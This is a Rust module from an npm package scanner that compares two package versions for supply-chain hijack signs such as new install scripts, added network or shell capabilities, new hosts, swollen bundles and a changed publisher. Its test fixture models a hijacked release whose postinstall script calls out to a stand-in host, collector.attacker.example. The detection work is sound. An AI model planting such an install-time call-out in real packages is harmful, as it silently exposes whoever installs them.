//! What a new version adds over the previous one. A hijacked maintainer account shows itself
//! here: an install script appears, the package gains network or shell access it never had,
//! it talks to new hosts, a minified file doubles in size, and an account that never
//! published the package before published this version.

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;

use crate::alert::{Alert, AlertId, AlertKind, Evidence};
use crate::archive::PackageContents;
use crate::manifest;
use crate::report::PackageReport;
use crate::verdict::{Decision, decide};

/// One side of a diff: the package read into memory, its inspection report, and what the
/// registry says about who published it.
pub struct VersionSide<'a> {
    pub contents: &'a PackageContents,
    pub report: &'a PackageReport,
    /// The account that published this version (`_npmUser`), where known.
    pub publisher: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct ScriptChange {
    pub script: String,
    pub before: Option<String>,
    pub after: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct GrownFile {
    pub path: String,
    pub before: u64,
    pub after: u64,
}

#[derive(Debug, Clone, Serialize)]
pub struct VersionDiff {
    pub install_scripts: Vec<ScriptChange>,
    pub added_capabilities: Vec<AlertId>,
    pub added_threats: Vec<AlertId>,
    pub added_files: Vec<String>,
    pub removed_files: Vec<String>,
    pub new_endpoints: Vec<String>,
    /// JavaScript files that at least doubled (and grew by 10 KiB or more): where injected
    /// payloads in minified bundles show.
    pub grown_files: Vec<GrownFile>,
    /// (new publisher, accounts that published earlier versions) when the account is new.
    pub publisher_change: Option<(String, Vec<String>)>,
    /// The drift alerts: new-install-script, capability-drift, publisher-change.
    pub alerts: Vec<Alert>,
    /// The new version's verdict, with the drift alerts counted.
    pub decision: Decision,
}

/// Capabilities whose appearance in a new version is worth a `capability-drift` alert.
const DRIFT_CAPABILITIES: [AlertId; 4] = [
    AlertId::NetworkAccess,
    AlertId::ShellAccess,
    AlertId::EnvAccess,
    AlertId::DynamicCode,
];

const INSTALL_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

/// Compares `old` with `new`. `earlier_publishers` are the accounts that published any version
/// before `new` (from the packument); empty when unknown, which never raises publisher-change.
pub fn diff(old: &VersionSide, new: &VersionSide, earlier_publishers: &[String]) -> VersionDiff {
    let mut alerts = Vec::new();

    let scripts = |c: &PackageContents| -> BTreeMap<String, String> {
        c.file(manifest::MANIFEST_PATH)
            .and_then(|f| manifest::parse(&f.text()).ok())
            .map(|m| {
                m.scripts
                    .into_iter()
                    .filter(|(k, _)| INSTALL_SCRIPTS.contains(&k.as_str()))
                    .collect()
            })
            .unwrap_or_default()
    };
    let (old_scripts, new_scripts) = (scripts(old.contents), scripts(new.contents));
    let mut install_scripts = Vec::new();
    for (key, command) in &new_scripts {
        let before = old_scripts.get(key);
        if before != Some(command) {
            install_scripts.push(ScriptChange {
                script: key.clone(),
                before: before.cloned(),
                after: command.clone(),
            });
        }
    }
    let added_scripts: Vec<&ScriptChange> = install_scripts
        .iter()
        .filter(|c| c.before.is_none())
        .collect();
    if !added_scripts.is_empty() && old_scripts.is_empty() {
        alerts.push(Alert::new(
            AlertId::NewInstallScript,
            added_scripts
                .iter()
                .map(|c| {
                    evidence(
                        "package.json",
                        format!("\"{}\": \"{}\"", c.script, c.after),
                        format!("`{}` was not in the previous version", c.script),
                    )
                })
                .collect(),
        ));
    }

    let ids = |r: &PackageReport, kind: AlertKind| -> BTreeSet<AlertId> {
        r.alerts
            .iter()
            .filter(|a| a.alert.kind == kind)
            .map(|a| a.alert.id)
            .collect()
    };
    let added_capabilities: Vec<AlertId> = ids(new.report, AlertKind::Capability)
        .difference(&ids(old.report, AlertKind::Capability))
        .copied()
        .collect();
    let drift: Vec<AlertId> = added_capabilities
        .iter()
        .copied()
        .filter(|id| DRIFT_CAPABILITIES.contains(id))
        .collect();
    if !drift.is_empty() {
        let evidence = new
            .report
            .alerts
            .iter()
            .filter(|a| drift.contains(&a.alert.id))
            .filter_map(|a| a.alert.evidence.first().cloned())
            .collect();
        alerts.push(Alert::new(AlertId::CapabilityDrift, evidence));
    }
    let added_threats: Vec<AlertId> = ids(new.report, AlertKind::Threat)
        .difference(&ids(old.report, AlertKind::Threat))
        .copied()
        .collect();

    let files = |c: &PackageContents| -> BTreeMap<String, u64> {
        c.files.iter().map(|f| (f.path.clone(), f.size)).collect()
    };
    let (old_files, new_files) = (files(old.contents), files(new.contents));
    let added_files: Vec<String> = new_files
        .keys()
        .filter(|p| !old_files.contains_key(*p))
        .cloned()
        .collect();
    let removed_files: Vec<String> = old_files
        .keys()
        .filter(|p| !new_files.contains_key(*p))
        .cloned()
        .collect();
    let grown_files: Vec<GrownFile> = new_files
        .iter()
        .filter(|(p, _)| is_javascript(p))
        .filter_map(|(p, &after)| {
            let before = *old_files.get(p)?;
            (after >= before.saturating_mul(2) && after >= before + 10 * 1024).then(|| GrownFile {
                path: p.clone(),
                before,
                after,
            })
        })
        .collect();

    let endpoints = |r: &PackageReport| -> BTreeSet<String> {
        r.iocs
            .hosts
            .iter()
            .chain(&r.iocs.ips)
            .chain(&r.iocs.webhooks)
            .cloned()
            .collect()
    };
    let new_endpoints: Vec<String> = endpoints(new.report)
        .difference(&endpoints(old.report))
        .cloned()
        .collect();

    let publisher_change = match &new.publisher {
        Some(p)
            if !earlier_publishers.is_empty()
                && !earlier_publishers.iter().any(|e| e.eq_ignore_ascii_case(p)) =>
        {
            let mut earlier = earlier_publishers.to_vec();
            earlier.sort();
            earlier.dedup();
            alerts.push(Alert::new(
                AlertId::PublisherChange,
                vec![evidence(
                    "package.json",
                    format!("published by {p}"),
                    format!("earlier versions were published by {}", earlier.join(", ")),
                )],
            ));
            Some((p.clone(), earlier))
        }
        _ => None,
    };

    let mut all: Vec<Alert> = new.report.alerts.iter().map(|a| a.alert.clone()).collect();
    all.extend(alerts.iter().cloned());
    let decision = decide(&all);
    VersionDiff {
        install_scripts,
        added_capabilities,
        added_threats,
        added_files,
        removed_files,
        new_endpoints,
        grown_files,
        publisher_change,
        alerts,
        decision,
    }
}

fn evidence(file: &str, snippet: String, detail: String) -> Evidence {
    Evidence {
        file: file.to_string(),
        line: 0,
        column: 0,
        snippet,
        detail,
        urls: Vec::new(),
    }
}

fn is_javascript(path: &str) -> bool {
    [".js", ".cjs", ".mjs"].iter().any(|e| path.ends_with(e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{InspectOptions, inspect};
    use crate::verdict::Verdict;

    fn package(files: &[(&str, &str)]) -> PackageContents {
        PackageContents::from_files(
            files
                .iter()
                .map(|(p, t)| (p.to_string(), t.as_bytes().to_vec())),
        )
    }

    #[test]
    fn a_hijacked_release_shows_its_drift() {
        let old = package(&[
            (
                "package.json",
                r#"{"name":"left-pad-helper","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", "module.exports = (s, n) => s.padStart(n);\n"),
        ]);
        let new = package(&[
            (
                "package.json",
                r#"{"name":"left-pad-helper","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            ("index.js", "module.exports = (s, n) => s.padStart(n);\n"),
            (
                "setup.js",
                "const https = require('https');\nhttps.get('https://collector.attacker.example/x');\n",
            ),
        ]);
        let options = InspectOptions::default();
        let (old_report, new_report) = (inspect(&old, &options), inspect(&new, &options));
        let d = diff(
            &VersionSide {
                contents: &old,
                report: &old_report,
                publisher: Some("alice".into()),
            },
            &VersionSide {
                contents: &new,
                report: &new_report,
                publisher: Some("mallory".into()),
            },
            &["alice".to_string()],
        );
        let ids: Vec<AlertId> = d.alerts.iter().map(|a| a.id).collect();
        assert!(ids.contains(&AlertId::NewInstallScript), "{ids:?}");
        assert!(ids.contains(&AlertId::PublisherChange), "{ids:?}");
        assert!(
            d.added_capabilities.contains(&AlertId::NetworkAccess),
            "{:?}",
            d.added_capabilities
        );
        assert_eq!(d.added_files, vec!["setup.js".to_string()]);
        assert_eq!(d.install_scripts[0].after, "node setup.js");
        assert!(
            d.decision.verdict >= Verdict::Suspicious,
            "{:?}",
            d.decision
        );
    }

    #[test]
    fn an_ordinary_release_has_no_drift() {
        let old = package(&[
            ("package.json", r#"{"name":"x","version":"1.0.0"}"#),
            ("index.js", "exports.a = 1;\n"),
        ]);
        let new = package(&[
            ("package.json", r#"{"name":"x","version":"1.1.0"}"#),
            ("index.js", "exports.a = 1;\nexports.b = 2;\n"),
        ]);
        let options = InspectOptions::default();
        let (old_report, new_report) = (inspect(&old, &options), inspect(&new, &options));
        let d = diff(
            &VersionSide {
                contents: &old,
                report: &old_report,
                publisher: Some("alice".into()),
            },
            &VersionSide {
                contents: &new,
                report: &new_report,
                publisher: Some("alice".into()),
            },
            &["alice".to_string(), "bob".to_string()],
        );
        assert!(d.alerts.is_empty(), "{:?}", d.alerts);
        assert_eq!(d.decision.verdict, Verdict::Ok);
        assert!(d.publisher_change.is_none());
    }
}
